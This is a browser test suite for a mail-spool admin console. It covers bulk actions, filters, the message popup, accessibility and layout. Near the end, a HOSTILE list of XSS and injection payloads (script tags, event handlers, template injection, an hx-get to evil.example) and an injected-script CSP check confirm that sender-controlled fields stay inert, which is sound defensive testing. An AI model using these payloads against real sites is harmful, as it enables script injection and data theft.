"""What an administrator does all day, done by a browser."""

from __future__ import annotations

import re
import time
from collections.abc import Callable
from pathlib import Path

import pytest
from django.urls import reverse
from playwright.sync_api import Locator, Page, expect

from spool import actions
from spool.models import Entry, Outcome, Priority
from tests.console.browser.conftest import Console, serious_violations
from tests.console.browser.themes import THEMES
from tests.support.messages import a_message, a_submission
from tests.support.spool_states import attempt, take_in
from tests.support.worker import maintenance_worker

pytestmark = pytest.mark.alike

SPOOL, WAITING = "/admin/spool/entry/", "/admin/spool/entry/waiting/"
PAGES = (
    SPOOL,
    WAITING,
    "/admin/spool/entry/backlog/",
    "/admin/destinations/",
    "/admin/spool/trace/",
    "/admin/audit/auditevent/",
    "/admin/quarantine/item/spam/",
    "/admin/quarantine/item/virus/",
)


def confirm(page: Page, button: str) -> None:
    page.locator("#confirm").get_by_role("button", name=button).click()


# A person who types slowly, and looks at what comes up before the next click.
KEY_MS, LOOK_MS = 120, 1_000


def test_a_new_administrator_redirects_what_waits_for_a_host_that_is_down(console: Console) -> None:
    """The clicks that docs/console/README.md counts: ten at most, and less than a minute."""
    down = take_in(*[a_submission("ann@example.org", f"user{i}@down.example") for i in range(60)])
    other = take_in(a_submission("ann@example.org", "x@up.example"), a_submission("ben@example.org", "y@down.example"))
    attempt([*down, *other], "connecting to mx.down.example: connection refused", host="mx.down.example")
    page = console.open(SPOOL)
    clicks = []

    def click(what: Locator) -> None:
        page.wait_for_timeout(LOOK_MS)
        what.click()
        clicks.append(str(what))

    started = time.monotonic()
    click(page.get_by_role("link", name="Waiting to Deliver").first)
    click(page.get_by_role("searchbox"))
    page.keyboard.type("from:ann@example.org domain:down.example", delay=KEY_MS)
    page.keyboard.press("Enter")
    expect(page.locator(".ms-chip")).to_have_count(2)
    click(page.locator(".ms-entry .sender").first)
    expect(page.locator("#popup #why")).to_contain_text("mx.down.example could not be reached")
    click(page.locator("#popup [data-close]"))
    click(page.locator("#pick-page"))
    click(page.get_by_role("button", name="Select all 60 that match"))
    click(page.locator("#bar").get_by_role("button", name="Redirect"))
    click(page.get_by_label("By another host"))
    page.keyboard.type("relay.example.net:2525", delay=KEY_MS)
    expect(page.locator("#effect")).to_contain_text("delivered to by relay.example.net:2525")
    click(page.locator("#confirm").get_by_role("button", name="Redirect 60"))
    expect(page.locator("#results")).to_contain_text("60 redirected")
    seconds = time.monotonic() - started
    print(f"{len(clicks)} clicks, {seconds:.0f} s")
    assert len(clicks) <= 10 and seconds < 60
    assert set(Entry.objects.filter(next_hop="relay.example.net:2525").values_list("pk", flat=True)) == {
        entry.pk for entry in down
    }


def test_a_large_deletion_and_its_undo_are_watched_to_their_end(console: Console, tmp_path: Path) -> None:
    for _ in range(4):
        take_in(*[a_submission("bulk@example.org") for _ in range(400)])
    keep = take_in(a_submission("ann@example.org"))
    worker = maintenance_worker(tmp_path / "worker.log")
    page = console.open(f"{SPOOL}?sender=bulk@example.org")
    page.locator("#pick-page").check()
    page.get_by_role("button", name="Select all 1,600 that match").click()
    page.locator("#bar").get_by_role("button", name="Delete").click()
    expect(page.locator("#effect")).to_contain_text("Runs in the background; progress is shown here.")
    confirm(page, "Delete 1,600")
    expect(page.locator("#results")).to_contain_text("0 of 1,600 messages, waiting for a worker")
    expect(page.get_by_role("progressbar", name="Delete")).to_have_attribute("aria-valuenow", "0")
    # Whoever goes to another page sees it there, too.
    page = console.open(SPOOL)
    expect(page.locator("#results")).to_contain_text("0 of 1,600 messages")
    noted = note_progress(page)
    worker.start()
    try:
        expect(page.locator("#results")).to_contain_text("1,600 deleted")
        assert noted() == sorted(noted())
        expect(page.locator(".ms-entry")).to_have_count(1)
        assert Entry.objects.get().pk == keep[0].pk
        page.locator("#results").get_by_role("button", name="Undo").click()
        expect(page.locator("#results")).to_contain_text("1,600 put back")
        expect(page.locator(".ms-entry")).to_have_count(50)
        assert Entry.objects.count() == 1_601
    finally:
        worker.stop()
    page = console.open("/admin/audit/auditevent/")
    expect(page.locator("main")).to_contain_text("1,600 put back")
    expect(page.get_by_role("button", name="Undo")).to_have_count(0)


def test_the_filters_of_the_audit_lead_to_what_they_say(console: Console) -> None:
    take_in(a_submission("ann@example.org"))
    entry = Entry.objects.get()
    actions.perform("hold", [entry.pk], actions.Actor.at_the_shell())
    actions.perform("release", [entry.pk], actions.Actor.at_the_shell())
    page = console.open("/admin/audit/auditevent/")
    expect(page.locator("main tr.cells")).to_have_count(2)
    page.get_by_role("button", name="Filters").click()
    page.get_by_label("Action", exact=True).fill("hold")
    page.get_by_role("button", name="Apply").click()
    expect(page.locator("main tr.cells")).to_have_count(1)
    expect(page.locator("main")).to_contain_text("Action: Hold")
    page.locator("main").get_by_role("link", name=entry.file_name).click()
    expect(page.locator("main tr.cells")).to_have_count(2)
    expect(page.locator("main")).to_contain_text(f"On {entry.file_name}")


def test_a_job_that_waits_for_a_worker_can_be_cancelled(console: Console) -> None:
    for _ in range(2):
        take_in(*[a_submission("bulk@example.org") for _ in range(300)])
    page = console.open(SPOOL)
    page.locator("#pick-page").check()
    page.get_by_role("button", name="Select all 600 that match").click()
    page.locator("#bar").get_by_role("button", name="Hold").click()
    confirm(page, "Hold 600")
    page.locator("#results").get_by_role("button", name="Cancel").click()
    expect(page.locator("#results")).to_contain_text("Cancelled by admin@localhost: 0 put on hold")
    assert not Entry.objects.filter(hold=True).exists()


def note_progress(page: Page) -> Callable[[], list[int]]:
    """Has the page write down each value of its progress bar; the function returns them."""
    page.evaluate(
        """() => {
          window.noted = [];
          new MutationObserver(() => {
            const bar = document.querySelector('[role=progressbar]');
            if (bar) noted.push(Number(bar.getAttribute('aria-valuenow')));
          }).observe(document.getElementById('results'), {subtree: true, childList: true});
        }"""
    )
    return lambda: list(page.evaluate("noted"))


def test_the_popup_shows_every_part_of_a_message_and_its_address_leads_back(console: Console) -> None:
    html = (
        b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<h1>Hello Bob</h1>'
        b'<a href="https://bank.example/">x</a>\r\n--b\r\nContent-Type: application/pdf\r\n'
        b"Content-Disposition: attachment; filename=plan.pdf\r\n\r\nPDF\r\n--b--\r\n"
    )
    content = b"From: ann@example.org\r\nSubject: Plans\r\nMIME-Version: 1.0\r\nX-Mark: seen\r\n" + html
    (entry,) = take_in(a_submission(content=content, to=[f"r{i}@example.net" for i in range(60)]))
    attempt([entry], "451 4.3.0 Busy", only=["r1@example.net"])
    page = console.open(SPOOL)
    page.locator("[data-open]").click()
    popup = page.locator("#popup")
    expect(popup.get_by_role("heading", name="Plans")).to_be_visible()
    for text in ("1 of 60 recipients not delivered yet", "451 4.3.0 Busy", "mx1.example.net", "192.0.2.7"):
        expect(popup.locator("#view-overview")).to_contain_text(text)
    popup.get_by_role("button", name="Show more recipients").click()
    expect(popup).to_contain_text("r59@example.net")
    popup.get_by_role("tab", name="Preview").click()
    expect(popup.frame_locator("iframe").get_by_role("heading", name="Hello Bob")).to_be_visible()
    expect(popup.locator("#view-content")).to_contain_text("plan.pdf")
    expect(popup.locator("#view-content")).to_contain_text("https://bank.example/")
    page.keyboard.press("ArrowRight")
    expect(popup.locator("#view-headers")).to_contain_text("X-Mark")
    page.keyboard.press("ArrowRight")
    expect(popup.locator("#view-source pre")).to_contain_text("X-Mark: seen")
    with page.expect_download() as download:
        popup.get_by_role("link", name="Download .eml").click()
    assert download.value.suggested_filename == entry.file_name
    assert entry.file_name in page.url
    page.reload()
    expect(popup.get_by_role("heading", name="Plans")).to_be_visible()
    page.keyboard.press("Escape")
    expect(popup).to_be_hidden()
    expect(page).not_to_have_url(re.compile(entry.file_name))
    expect(page.locator("[data-open]")).to_be_focused()


def test_a_refresh_keeps_selection_scroll_popup_and_focus_and_shows_what_is_new(console: Console) -> None:
    take_in(*[a_submission(f"s{i}@example.org") for i in range(40)])
    page = console.open(SPOOL)
    page.locator(".pick-one").nth(2).check()
    chosen = page.locator(".pick-one").nth(2).get_attribute("value")
    page.locator(".ms-entry .sender").nth(30).scroll_into_view_if_needed()
    scrolled = page.evaluate("scrollY")
    assert scrolled > 0
    take_in(a_submission("new@example.org"))
    page.evaluate("msRefresh()")
    expect(page.locator(".ms-entry").first).to_contain_text("new@example.org")
    expect(page.locator(f"#pick-{chosen}")).to_be_checked()
    expect(page.locator(f"#pick-{chosen}")).to_be_focused()
    expect(page.locator("#bar-what")).to_have_text("1 selected")
    expect(page.locator("#ms-tabs a", has_text="Spool").first).to_contain_text("41")
    assert page.evaluate("scrollY") == scrolled
    page.locator(".ms-entry .sender").nth(30).click()
    expect(page.locator("#popup")).to_be_visible()
    page.evaluate("msRefresh()")
    page.wait_for_load_state("networkidle")
    expect(page.locator("#popup")).to_be_visible()


def test_the_refresh_comes_every_twenty_seconds_unless_it_is_paused(console: Console) -> None:
    take_in(a_submission("one@example.org"))
    console.page.clock.install()
    page = console.open(SPOOL)
    take_in(a_submission("two@example.org"))
    page.clock.run_for(21_000)
    expect(page.locator(".ms-entry").first).to_contain_text("two@example.org")
    page.get_by_role("button", name="Pause").click()
    expect(page.locator("#live-text")).to_have_text("Paused")
    take_in(a_submission("three@example.org"))
    page.clock.run_for(60_000)
    page.wait_for_load_state("networkidle")
    assert console.rows() == 2
    page.get_by_role("button", name="Resume").click()
    expect(page.locator(".ms-entry").first).to_contain_text("three@example.org")


def test_a_selection_lives_over_pages_and_all_that_match_can_be_deleted_and_brought_back(console: Console) -> None:
    take_in(*[a_submission(f"s{i}@example.org") for i in range(70)])
    page = console.open(SPOOL)
    page.locator(".pick-one").first.check()
    page.get_by_role("link", name="Next").click()
    page.locator(".pick-one").first.check()
    expect(page.locator("#bar-what")).to_have_text("2 selected")
    page.get_by_role("link", name="Previous").click()
    expect(page.locator(".pick-one").first).to_be_checked()
    page.locator("#bar-all").click()
    expect(page.locator("#bar-what")).to_have_text("All 70 that match are selected")
    page.locator("#bar").get_by_role("button", name="Delete").click()
    expect(page.locator("#confirm")).to_contain_text("Delete: 70 messages")
    expect(page.locator("#confirm")).to_contain_text("can be undone")
    confirm(page, "Delete 70")
    expect(page.locator("#results")).to_contain_text("70 deleted")
    expect(page.get_by_role("heading", name="The spool is empty")).to_be_visible()
    assert not Entry.objects.exists()
    page.locator("#results").get_by_role("button", name="Undo").click()
    expect(page.locator("#results")).to_contain_text("70 put back")
    expect(page.locator(".ms-entry")).to_have_count(50)


def test_a_wrong_folder_is_refused_in_the_dialog_and_can_be_mended(console: Console) -> None:
    take_in()
    page = console.open(SPOOL)
    page.locator("[data-open]").click()
    page.locator("#popup").get_by_role("button", name="Move Messages").click()
    folder = page.locator("#confirm").get_by_label("Folder")
    usual = folder.input_value()
    folder.fill("/etc")
    confirm(page, "Move")
    expect(page.locator("#confirm [role=alert]")).to_contain_text("/etc is not in a folder")
    page.locator("#confirm").get_by_label("Folder").fill(usual)
    confirm(page, "Move")
    expect(page.locator("#results")).to_contain_text("1 moved")
    expect(page.locator("#popup")).to_be_hidden()


def test_hold_release_priority_and_export_by_the_bar(console: Console) -> None:
    (entry,) = take_in()
    page = console.open(SPOOL)
    bar = page.locator("#bar")
    page.locator(".pick-one").check()
    bar.get_by_role("button", name="Hold").click()
    page.get_by_label("Reason").fill("Looks odd")
    confirm(page, "Hold")
    expect(page.locator("td.c-subject")).to_contain_text("On hold")
    page.locator(".pick-one").check()
    bar.get_by_role("button", name="Release").click()
    confirm(page, "Release")
    expect(page.locator("td.c-subject")).not_to_contain_text("On hold")
    page.locator(".pick-one").check()
    bar.get_by_role("button", name="Change Priority").click()
    page.locator("#confirm").get_by_label("Priority").select_option("low")
    confirm(page, "Change Priority")
    expect(page.locator("td.c-prio")).to_contain_text("Low")
    page.locator(".pick-one").check()
    bar.get_by_role("button", name="Export").click()
    page.locator("#confirm").get_by_label("Format").select_option("json")
    with page.expect_download() as download:
        confirm(page, "Export")
    assert re.fullmatch(r"spool-\d{8}-\d{6}\.json", download.value.suggested_filename)
    entry.refresh_from_db()
    assert entry.priority == 1 and not entry.hold


def test_the_filter_panel_a_sort_and_a_saved_view_are_in_the_address(console: Console) -> None:
    entries = take_in(a_submission("big@example.org", size=90_000), a_submission("small@example.org"))
    attempt(entries)
    page = console.open(WAITING)
    page.get_by_role("button", name="Filters").click()
    page.get_by_label("Larger than").fill("50KB")
    page.get_by_role("button", name="Apply").click()
    expect(page.locator(".ms-entry")).to_have_count(1)
    assert "larger=50KB" in page.url
    page.locator("summary", has_text="Views").click()
    page.get_by_label("Name of the view").fill("Large ones")
    page.get_by_role("button", name="Save").click()
    page.get_by_role("link", name=re.compile("Remove: Larger")).click()
    expect(page.locator(".ms-entry")).to_have_count(2)
    page.get_by_role("link", name="Size").click()
    expect(page.locator("th[aria-sort=descending]")).to_have_text(re.compile("Size"))
    expect(page.locator(".ms-entry").first).to_contain_text("big@example.org")
    page.get_by_role("link", name="Size").click()
    expect(page.locator("th[aria-sort=ascending]")).to_have_text(re.compile("Size"))
    expect(page.locator(".ms-entry").first).to_contain_text("small@example.org")
    page.locator("summary", has_text="Views").click()
    page.get_by_role("link", name="Large ones", exact=True).click()
    expect(page.locator(".ms-entry")).to_have_count(1)


def test_every_column_sorts_or_says_why_not(console: Console) -> None:
    entries = take_in(
        a_submission("zoe@example.org", size=90_000, priority=Priority.LOW),
        a_submission("ann@example.org"),
        a_submission("bob@example.org", priority=Priority.HIGH),
    )
    attempt(entries[:1])
    page = console.open(SPOOL)
    page.locator("summary", has_text="Columns").click()
    page.get_by_label("Filename", exact=True).check()
    page.get_by_role("button", name="Apply").first.click()
    expect(page.locator("thead th").nth(-1)).to_contain_text("Filename")
    first = page.locator(".ms-entry").first
    for column, whose in {
        "Sender": "ann@",
        "Priority": "bob@",
        "Status": "ann@",
        "Filename": "@example.org",
        "Time in Spool": "bob@",
    }.items():
        page.locator("thead").get_by_role("link", name=column).click()
        expect(page.locator("th[aria-sort]")).to_have_text(re.compile(column))
        expect(first).to_contain_text(whose)
    for column in ("Size", "Attempts", "Next Attempt"):
        heading = page.get_by_role("columnheader", name=column)
        expect(heading.get_by_role("link")).to_have_count(0)
        expect(heading.locator("[title]")).to_have_attribute("title", re.compile("in Waiting to Deliver"))
    expect(page.get_by_role("columnheader", name="Recipients").locator("[title]")).to_have_attribute(
        "title", "The list can't be sorted by this."
    )
    page = console.open(f"{SPOOL}?domain=example.net")
    page.locator("thead").get_by_role("link", name="Size").click()
    expect(first).to_contain_text("zoe@")


def test_columns_density_and_page_size_are_chosen_and_kept(console: Console) -> None:
    take_in(*[a_submission(to=["bob@example.net", "cat@example.com"], subject=f"number {n}") for n in range(30)])
    for width in (1440, 390):
        console.page.set_viewport_size({"width": width, "height": 900})
        page = console.open(SPOOL)
        row = page.locator(".ms-entry").first
        expect(row).to_contain_text("bob@example.net")
        expect(row).to_contain_text("and 1 more")
        expect(row).to_contain_text("number 29")
        page.locator("summary", has_text="Columns").click()
        menu = page.locator("#layout")
        menu.get_by_role("checkbox", name="Spool Path").check()
        menu.get_by_role("checkbox", name="Size").uncheck()
        while menu.locator("li").nth(0).get_by_role("checkbox", name="Spool Path").count() == 0:
            menu.get_by_role("button", name="Move Spool Path up").click()
        menu.get_by_label("Density").select_option("compact")
        menu.get_by_label("Rows a page").select_option("25")
        assert not serious_violations(page, "#content")
        menu.get_by_role("button", name="Apply").click()
        expect(page.locator("#live.compact .ms-entry")).to_have_count(25)
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
        cells = page.locator(".ms-entry").first.locator("td[data-label]")
        expect(cells.first).to_have_attribute("data-label", "Spool Path")
        expect(page.locator("td[data-label=Size]")).to_have_count(0)
        page.locator("summary", has_text="Columns").click()
        page.locator("#layout").get_by_role("button", name="Reset").click()
        expect(page.locator("#live.comfortable .ms-entry")).to_have_count(30)


def test_a_flood_is_grouped_and_held_as_one(console: Console) -> None:
    take_in(
        *[a_submission("eve@example.org", f"x{n}@a.example", subject="Win a prize") for n in range(40)],
        *[a_submission(f"user{n}@example.org", "y@b.example") for n in range(5)],
    )
    for number, width in enumerate((1440, 390)):
        console.page.set_viewport_size({"width": width, "height": 900})
        page = console.open(SPOOL)
        page.locator("summary", has_text="Group").click()
        page.get_by_role("link", name="By sender").click()
        expect(page.locator(".ms-groups tbody tr").first).to_contain_text("eve@example.org")
        expect(page.locator(".ms-groups tbody tr").first).to_contain_text("40")
        assert not serious_violations(page, "#content")
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
        page.get_by_role("button", name="Actions on the messages of eve@example.org").click()
        page.get_by_role("menuitem", name="Hold" if number == 0 else "Delete").first.click()
        confirm(page, "Hold 40" if number == 0 else "Delete 40")
        expect(page.locator("#results")).to_contain_text("40")
    assert Entry.objects.filter(sender="eve@example.org").count() == 0 and Entry.objects.count() == 5


@pytest.mark.parametrize("theme", THEMES)
def test_the_trace_is_filtered_sorted_and_exported(console: Console, theme: str) -> None:
    gone = take_in(*[a_submission(f"s{n}@example.org", f"r{n % 3}@d{n % 2}.example") for n in range(9)])
    attempt(gone[:5], "550 5.1.1 No such user", outcome=Outcome.BOUNCED)
    attempt(gone[5:], "250 2.0.0 Taken", outcome=Outcome.DELIVERED)
    console.wear(theme)
    for width in (1440, 390):
        console.page.set_viewport_size({"width": width, "height": 900})
        page = console.open("/admin/spool/trace/")
        page.get_by_role("searchbox", name="Search the trace").fill("outcome:bounced domain:d0.example")
        page.keyboard.press("Enter")
        expect(page.locator(".ms-entry")).to_have_count(3)
        page.get_by_role("link", name="Remove: To the domain d0.example").click()
        expect(page.locator(".ms-entry")).to_have_count(5)
        if width == 390:
            page.locator("summary", has_text="Sort").click()
            page.locator(".ms-drop").get_by_role("link", name="Recipient").click()
        else:
            page.locator("thead").get_by_role("link", name="Recipient").click()
        expect(page.locator(".ms-entry").first).to_contain_text("r0@")
        expect(page.locator(".ms-entry").last).to_contain_text("r2@")
        page.get_by_role("button", name="Filters").click()
        page.get_by_label("Outcome", exact=True).select_option("delivered")
        page.get_by_role("button", name="Apply").click()
        expect(page.locator(".ms-entry")).to_have_count(4)
        page.locator("summary", has_text="Export").click()
        assert not serious_violations(page, "#content")
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
        with page.expect_download() as download:
            page.get_by_role("button", name="CSV").click()
        assert Path(download.value.path()).read_text().count("delivered") == 4


def test_no_page_breaches_its_policy(console: Console) -> None:
    """Scripts come from files only; the console notes breaches as misdeeds."""
    (entry,) = take_in()
    for path in (
        *PAGES,
        "/admin/",
        "/admin/accounts/user/",
        "/admin/accounts/user/add/",
        "/admin/spool/settings/",
        "/admin/jobs/",
        f"{SPOOL}message/{entry.file_name}/",
    ):
        console.open(path)
        console.page.wait_for_load_state("networkidle")
    policy = console.page.goto(console.base + SPOOL).headers["content-security-policy"]  # type: ignore[union-attr]
    assert "script-src 'self' 'unsafe-eval';" in policy
    with console.page.expect_console_message(lambda said: "Content Security Policy" in said.text):
        console.page.evaluate("""() => {
          const script = document.createElement('script');
          script.textContent = 'window.injected = true';
          const main = document.querySelector('#spool-console');
          main.append(script);
          main.insertAdjacentHTML('beforeend', '<p x-data x-init="window.injected = true"></p>');
        }""")
    console.page.wait_for_timeout(200)
    assert console.page.evaluate("window.injected") is None
    assert [misdeed.partition(" ")[0] for misdeed in console.misdeeds] == ["policy"]
    console.misdeeds.clear()


def test_map_trace_and_audit_lead_to_the_messages(console: Console) -> None:
    waiting, gone = take_in(a_submission(to="a@down.example"), a_submission("ann@example.org", "b@up.example"))
    attempt([waiting], "Connection refused")
    attempt([gone], "250 2.0.0 Taken", outcome=Outcome.DELIVERED)
    page = console.open("/admin/spool/entry/backlog/")
    page.locator(".ms-map tbody tr", has_text="down.example").get_by_role("link").first.click()
    expect(page.locator(".ms-entry")).to_have_count(1)
    page = console.open("/admin/spool/trace/")
    page.get_by_role("searchbox").fill("b@up.example")
    page.keyboard.press("Enter")
    expect(page.locator(".ms-chip")).to_contain_text("from or to b@up.example")
    page.locator("[data-open]").click()
    expect(page.locator("#popup")).to_contain_text("Message no longer exists")
    expect(page.locator("#popup")).to_contain_text("250 2.0.0 Taken")


@pytest.mark.parametrize("theme", ["light", "dark"])
def test_axe_finds_no_serious_violation(console: Console, theme: str) -> None:
    entries = take_in(*[a_submission(f"s{i}@example.org") for i in range(3)])
    attempt(entries[:2], "451 4.3.0 Busy")
    attempt(entries[1:2], "250 Taken", outcome=Outcome.DELIVERED)
    Entry.objects.filter(pk=entries[2].pk).update(hold=True, hold_reason="Odd", due_at=None, priority=3)
    console.wear(theme)
    page = console.page
    found = []

    def look(where: str) -> None:
        page.wait_for_load_state("networkidle")
        # Only what is ours: the sidebar and the header are the admin theme's.
        found.extend(
            f"{where}: {violation['id']} {[node['target'] for node in violation['nodes']][:3]}"
            for violation in serious_violations(page, "main")
        )

    for path in PAGES:
        console.open(path)
        assert page.evaluate("document.documentElement.classList.contains('dark')") is (theme == "dark")
        look(path)
    page = console.open(SPOOL)
    page.get_by_role("button", name="Filters").click()
    page.locator(".pick-one").first.check()
    look("filter and bar")
    page.locator(".ms-entry .sender").first.click()
    expect(page.locator("#popup #why")).to_be_visible()
    found.extend(f"popup: {v['id']}" for v in serious_violations(page, "#popup"))
    page.locator("#popup").get_by_role("button", name="Delete").click()
    expect(page.locator("#confirm-title")).to_be_visible()
    found.extend(f"dialog: {v['id']}" for v in serious_violations(page, "#confirm"))
    assert found == []


@pytest.mark.parametrize("width", [390, 768, 1920])
def test_no_page_is_wider_than_the_window(console: Console, width: int) -> None:
    long_name = "a-very-long-sender-name-that-goes-on-and-on-for-ever@a-long-domain-name.example.org"
    entries = take_in(*[a_submission(long_name, f"{'x' * 60}@{'y' * 50}.example") for _ in range(3)])
    attempt(entries[:2], "451 4.3.0 " + "averylongreplywithoutanyspace" * 8)
    attempt(entries[:1], "250 Taken", outcome=Outcome.DELIVERED)
    console.page.set_viewport_size({"width": width, "height": 844})
    for path in PAGES:
        page = console.open(path)
        assert page.evaluate("document.documentElement.scrollWidth") <= width, path
    page = console.open(WAITING)
    page.locator(".ms-entry .sender").first.click()
    popup = page.locator("#popup")
    expect(popup).to_be_visible()
    assert popup.evaluate("node => node.scrollWidth <= node.clientWidth + 1")


HOSTILE = (
    '"><script>alert(1)</script>',
    "<img src=x onerror=alert(1)>",
    "'-alert(1)-'",
    "<svg onload=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "{{constructor.constructor('alert(1)')()}}",
    "javascript:alert(1)",
    '" x-init="alert(1)" "',
    '" hx-get="https://evil.example/" hx-trigger="load" "',
    "</textarea></title><script>alert(1)</script>",
)


def test_no_field_that_a_sender_writes_runs_anything(console: Console) -> None:
    submissions = []
    for number, text in enumerate(HOSTILE):
        body = (
            f"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n{text}<p>end</p>"
            f"\r\n--b\r\nContent-Type: text/x{text}\r\nContent-Disposition: attachment; filename*=utf-8''{text}"
            "\r\n\r\nx\r\n--b--\r\n"
        )
        content = a_message(subject=text, headers=[("X-Evil", text), (f"X-{number}", text)], test_id=f"{number}{text}")
        content = content.partition(b"\r\n\r\n")[0] + b"\r\nMIME-Version: 1.0\r\n" + body.encode()
        submission = a_submission(f"{text}@example.org", f"{text}@example.net", content=content)
        submission.envelope.ehlo_name = submission.envelope.auth_user = text
        submissions.append(submission)
    entries = take_in(*submissions)
    for entry, text in zip(entries, HOSTILE, strict=True):
        attempt([entry], f"451 {text}", host=text)
    Entry.objects.filter(pk=entries[0].pk).update(hold_reason=HOSTILE[0], hold=True, due_at=None, traceback=HOSTILE[0])
    attempt(entries[-2:], f"550 {HOSTILE[1]}", outcome=Outcome.BOUNCED)
    for path in PAGES:
        console.open(path)
        console.page.wait_for_load_state("networkidle")
    for entry in entries[:6]:
        page = console.open(reverse("admin:spool_entry_message", args=[entry.file_name]))
        for tab in ("Preview", "Headers", "Source"):
            page.get_by_role("tab", name=tab).click()
            page.wait_for_load_state("networkidle")
        expect(page.frame_locator("iframe").locator("body")).to_contain_text("end")
    page = console.open(WAITING)
    page.locator("#pick-page").check()
    page.locator("#bar").get_by_role("button", name="Delete").click()
    expect(page.locator("#confirm-title")).to_be_visible()
    confirm(page, "Delete")
    expect(page.locator("#results")).to_contain_text("deleted")
    page = console.open(reverse("admin:spool_entry_message", args=[entries[-1].file_name]))
    expect(page.locator("#message-page")).to_contain_text("Message no longer exists")
    console.open("/admin/audit/auditevent/")
    assert console.misdeeds == []


def test_a_click_that_the_server_does_not_answer_says_so_and_the_next_one_works(console: Console) -> None:
    take_in(a_submission())
    page = console.open(SPOOL)
    page.route("**/message/**", lambda route: route.abort())
    page.locator("[data-open]").click()
    expect(page.get_by_role("alert")).to_contain_text("The server was not reached")
    expect(page.locator("#popup")).to_be_hidden()
    page.unroute("**/message/**")
    page.route("**/message/**", lambda route: route.fulfill(status=503, body="busy"))
    page.get_by_role("button", name="Dismiss").click()
    page.locator("[data-open]").click()
    expect(page.get_by_role("alert")).to_contain_text("HTTP 503")
    page.unroute("**/message/**")
    page.locator("[data-open]").click()
    expect(page.locator("#popup")).to_be_visible()
